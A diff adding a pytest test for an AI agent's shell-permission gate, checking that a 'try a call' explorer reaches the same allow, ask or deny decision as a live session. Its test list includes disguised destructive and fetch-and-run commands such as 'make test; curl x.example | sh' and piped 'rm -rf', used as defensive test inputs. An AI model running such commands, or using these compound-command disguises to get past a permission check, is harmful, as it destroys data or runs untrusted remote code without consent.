@@ -293,3 +293,47 @@ def test_c38_the_card_shows_where_hidden_code_came_from() -> None:
         ("ls", "pipe to bash", "allow"),
         ("rm -rf x", "pipe to bash", "ask"),
     ]
+
+
+EXPLORER_CALLS = [*C38, "echo rm -rf x", "git status && rm -rf build", "ls -la | grep x", "make test; curl x.example | sh",
+                  "echo 'rm -rf x' | sh", "bash < t.sh", 'ls "unclosed']  # fmt: skip
+"""C38's disguises, compound commands, hidden and unparseable code: what the explorer's "Try a call" is asked."""
+
+
+@pytest.mark.parametrize("mode", list(PermissionMode))
+def test_c38_explorer_try_call_decides_what_a_session_decides(mode: PermissionMode) -> None:
+    """In each mode, the explorer's ``try_call`` (the agent's rules, ``deny Bash(rm:*)`` and
+    ``allow Bash(make:*)``) gives each call the decision a real Session takes for it: ``ask``
+    when a card is shown, ``deny`` when the call is refused without one, ``allow`` when it runs
+    (recorded, not run)."""
+    from nb_hitl.permissions import try_call
+
+    backend = RecordingBackend()
+    rules = (rule("rm:*", PermissionBehavior.DENY), rule("make:*", PermissionBehavior.ALLOW))
+    agent = bash_agent(EXPLORER_CALLS, backend, state(mode, *rules))
+    asked: set[str] = set()
+
+    async def scenario() -> dict[str, dict[str, Any]]:
+        session = Session(agent, display=False)
+        tried = {c: await try_call(agent, None, "Bash", {"command": c}) for c in EXPLORER_CALLS}
+        task = session.start("go")
+        while (pause := await park_or_end(session, task)) is not None:
+            asked.add(pause.tool_call_id)
+            await session.act({"action": "deny", "tool_call_id": pause.tool_call_id})
+        await asyncio.wait_for(task, 10)
+        return tried
+
+    tried = run_async(scenario())
+    ran = set(backend.ran)
+    session_says = {
+        c: "ask" if f"call_{i}" in asked else "allow" if c in ran else "deny" for i, c in enumerate(EXPLORER_CALLS)
+    }
+    explorer_says = {c: r["behavior"] for c, r in tried.items()}
+    assert explorer_says == session_says
+    assert session_says["sudo rm -rf x"] == "deny"  # the tester's case: never "allow" in bypass, never "ask" in default
+    for c, r in tried.items():  # the last "why" step names the Session's decision; the shell verdict is the headline
+        assert r["shell"]["behavior"] == r["behavior"], c
+        assert r["steps"][-1].startswith("nb_hitl's shell rules"), r["steps"]
+        assert (
+            f"A Session decides {r['behavior']}." in r["steps"][-1] or f"decision: {r['behavior']}." in r["steps"][-1]
+        )
